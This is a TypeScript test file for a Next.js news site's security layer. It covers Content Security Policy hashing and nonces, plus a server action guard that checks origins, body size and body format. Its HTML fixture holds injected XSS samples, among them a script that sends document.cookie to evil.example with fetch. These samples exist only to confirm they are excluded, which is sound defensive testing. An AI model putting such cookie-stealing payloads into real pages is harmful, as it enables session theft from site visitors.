/**
 * The pieces behind the security headers: the public pages' hash policy (what gets a hash and what must not), the
 * nonce policy of per-request pages, and the server action guard that proxy.ts runs before Next.
 */
import { createHash } from "node:crypto";
import { createRequire } from "node:module";
import { describe, expect, it } from "vitest";
import { noncePagePolicy, createNonce } from "@/lib/security/csp";
import { checkActionBody, checkActionOrigin, isServerActionRequest, readBodyCapped, SERVER_ACTION_BODY_LIMIT } from "@/lib/security/server-action-guard";
import { findForeignOrigin } from "@/lib/security/request-origin";

const require = createRequire(import.meta.url);
const pageCsp = require("../../cache-handlers/page-csp.cjs") as typeof import("@/cache-handlers/page-csp.cjs");

const sha = (text: string) => `'sha256-${createHash("sha256").update(text, "utf8").digest("base64")}'`;
const scriptSrc = (policy: string) => policy.split("; ").find((d) => d.startsWith("script-src ")) ?? "";

const NEXT_SCRIPTS = [
  "(self.__next_f=self.__next_f||[]).push([0])",
  String.raw`self.__next_f.push([1,"1:\"$Sreact.fragment\"\n2:I[3975,[],\"\"]\n"])`,
  '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["static/chunks/310vm2bl3xxpt.js","static/chunks/1-ajq3k0e0-gu.js"],"runtimeModuleIds":[94553]});',
];

describe("public page policy (script hashes)", () => {
  const html = [
    "<!DOCTYPE html><html><head>",
    '<script src="/_next/static/chunks/a.js" async=""></script>',
    `<script id="_R_">${NEXT_SCRIPTS[2]}</script>`,
    "</head><body>",
    '<div class="article-body"><script>alert(document.cookie)</script></div>',
    '<script>self.__next_f.push([1,"x"]);fetch("//evil.example/"+document.cookie)</script>',
    '<script type="application/ld+json">{"@type":"NewsArticle"}</script>',
    `<script>${NEXT_SCRIPTS[0]}</script><script>${NEXT_SCRIPTS[1]}</script><script>${NEXT_SCRIPTS[1]}</script>`,
    "</body></html>",
  ].join("");

  it("hashes exactly Next's own inline scripts, once each, and nothing injected", () => {
    const hashes = pageCsp.nextInlineScriptHashes(html);
    expect(hashes).toEqual([sha(NEXT_SCRIPTS[2]!), sha(NEXT_SCRIPTS[0]!), sha(NEXT_SCRIPTS[1]!)]);
    expect(hashes).not.toContain(sha("alert(document.cookie)"));
  });

  it("allows our origin and those hashes, never 'unsafe-inline' scripts, and keeps other sites from framing", () => {
    const policy = pageCsp.publicPageCsp(html);
    expect(scriptSrc(policy)).toBe(`script-src 'self' ${[NEXT_SCRIPTS[2], NEXT_SCRIPTS[0], NEXT_SCRIPTS[1]].map((s) => sha(s!)).join(" ")}`);
    expect(policy).toContain("object-src 'none'");
    expect(policy).toContain("base-uri 'self'");
    expect(policy).toContain("frame-ancestors 'self'");
    expect(policy).not.toMatch(/script-src[^;]*unsafe/);
  });

  it("adds the policy to a page entry's own headers object, and leaves route handler entries alone", () => {
    const headers: Record<string, unknown> = { "x-next-cache-tags": "a,b" };
    const entry = { kind: "APP_PAGE", html, headers };
    pageCsp.addPublicPageCsp(entry);
    expect(entry.headers).toBe(headers); // the same object Next sends with the response that stored the page
    expect(headers["content-security-policy"]).toBe(pageCsp.publicPageCsp(html));
    const route = { kind: "APP_ROUTE", body: Buffer.from("<rss/>"), headers: { "content-type": "application/rss+xml" } as Record<string, unknown> };
    pageCsp.addPublicPageCsp(route);
    expect(route.headers["content-security-policy"]).toBeUndefined();
  });
});

describe("per-request page policy (nonce)", () => {
  it("allows only scripts with this response's nonce (and what they load), with no framing for staff pages", () => {
    const nonce = createNonce();
    expect(nonce).toMatch(/^[A-Za-z0-9+/]{22}==$/);
    expect(createNonce()).not.toBe(nonce);
    const policy = noncePagePolicy(nonce, { frameAncestors: "'none'" });
    expect(scriptSrc(policy)).toBe(`script-src 'self' 'nonce-${nonce}' 'strict-dynamic'`);
    expect(policy).toContain("frame-ancestors 'none'");
    expect(policy).not.toMatch(/unsafe-eval|ws:/);
    // The shared directives are the public pages' too.
    for (const directive of pageCsp.BASE_DIRECTIVES) expect(policy).toContain(directive);
    const development = noncePagePolicy(nonce, { frameAncestors: "'self'", isDevelopment: true });
    expect(scriptSrc(development)).toBe(`script-src 'self' 'nonce-${nonce}' 'strict-dynamic' 'unsafe-eval'`);
    expect(development).toContain("connect-src 'self' ws: wss:");
  });
});

describe("server action guard", () => {
  const headers = (entries: Record<string, string>) => new Headers(entries);

  it("knows an action request: a POST with Next-Action, or a form posted to a page (not to /api)", () => {
    const post = (h: Record<string, string>) => new Request("http://site.test/x", { method: "POST", headers: h, body: "a" });
    expect(isServerActionRequest(post({ "next-action": "abc" }), "/admin/tags")).toBe(true);
    expect(isServerActionRequest(post({ "content-type": "multipart/form-data; boundary=x" }), "/login")).toBe(true);
    expect(isServerActionRequest(post({ "content-type": "application/x-www-form-urlencoded" }), "/api/auth/callback/credentials")).toBe(false);
    expect(isServerActionRequest(post({ "content-type": "application/json" }), "/api/articles/1")).toBe(false);
    expect(isServerActionRequest(new Request("http://site.test/x", { headers: { "next-action": "abc" } }), "/x")).toBe(false);
  });

  it("refuses another site's Origin (and the opaque 'null' origin) but not this site's or a missing one", () => {
    expect(checkActionOrigin(headers({ host: "news.test", origin: "https://news.test" }))).toBeNull();
    expect(checkActionOrigin(headers({ host: "internal:3000", "x-forwarded-host": "news.test", origin: "https://news.test" }))).toBeNull();
    expect(checkActionOrigin(headers({ host: "news.test" }))).toBeNull();
    for (const origin of ["https://evil.test", "null", "not a url", "https://news.test.evil.test"]) {
      const refusal = checkActionOrigin(headers({ host: "news.test", origin }));
      expect(refusal?.status, origin).toBe(403);
      expect(refusal?.message).toContain("another site");
    }
  });

  it("refuses a request without Origin that a browser marks as sent by another site, same-site siblings included", () => {
    for (const site of ["same-site", "cross-site"]) {
      expect(checkActionOrigin(headers({ host: "news.test", "sec-fetch-site": site }))?.status, site).toBe(403);
      expect(findForeignOrigin(headers({ host: "news.test", "sec-fetch-site": site })), site).toContain(site);
    }
    expect(findForeignOrigin(headers({ host: "news.test", origin: "https://blog.news.test", "sec-fetch-site": "same-site" }))).toBe("https://blog.news.test");
    for (const site of ["same-origin", "none"]) expect(findForeignOrigin(headers({ host: "news.test", "sec-fetch-site": site })), site).toBeNull();
    expect(findForeignOrigin(headers({ host: "news.test", origin: "https://news.test", "sec-fetch-site": "same-origin" }))).toBeNull();
  });

  it("reads a body up to the limit and no further", async () => {
    const body = (size: number, declare: boolean) =>
      new Request("http://site.test/", { method: "POST", body: new Uint8Array(size), headers: declare ? { "content-length": String(size) } : {} });
    expect((await readBodyCapped(body(10, true), 10))?.byteLength).toBe(10);
    expect(await readBodyCapped(body(11, true), 10)).toBeNull();
    expect(await readBodyCapped(body(11, false), 10)).toBeNull();
    expect(SERVER_ACTION_BODY_LIMIT).toBe(1024 * 1024);
  });

  it("lets well-formed bodies through and names what is wrong with the others", async () => {
    const text = (s: string) => new TextEncoder().encode(s);
    const plain = "text/plain;charset=UTF-8";
    expect(await checkActionBody(text('["id-1",{"title":"$$dollars","at":"$D2026-01-01T00:00:00.000Z","n":"$n12","u":"$undefined"}]'), plain, true)).toBeNull();
    const cases: [string, string, number, string][] = [
      ["{bad", plain, 400, "not valid JSON"],
      ['{"a":1}', plain, 400, "must be a JSON array"],
      ["5", plain, 400, "must be a JSON array"],
      ['["$1"]', plain, 400, "refers to a part that was not sent"],
      ['[{"x":["$h2"]}]', plain, 400, "refers to a part that was not sent"],
      ['["$T"]', plain, 400, "refers to a part that was not sent"],
      ["[1]", "application/json", 415, "text/plain"],
    ];
    for (const [body, type, status, message] of cases) {
      const refusal = await checkActionBody(text(body), type, true);
      expect(refusal?.status, body).toBe(status);
      expect(refusal?.message, body).toContain(message);
    }
    expect(await checkActionBody(new Uint8Array([0x5b, 0xff, 0x5d]), plain, true)).toMatchObject({ status: 400 });
    const form = new FormData();
    form.set("0", '["$K1"]');
    form.set("1_email", "a@b.test");
    const encoded = new Response(form);
    const type = encoded.headers.get("content-type") ?? "";
    expect(await checkActionBody(new Uint8Array(await encoded.arrayBuffer()), type, true)).toBeNull();
    expect(await checkActionBody(text("garbage"), "multipart/form-data; boundary=zz", false)).toMatchObject({ status: 400, message: expect.stringContaining("multipart") });
    // A url-encoded post to a page is not an action: Next renders the page.
    expect(await checkActionBody(text("a=b"), "application/x-www-form-urlencoded", false)).toBeNull();
  });
});
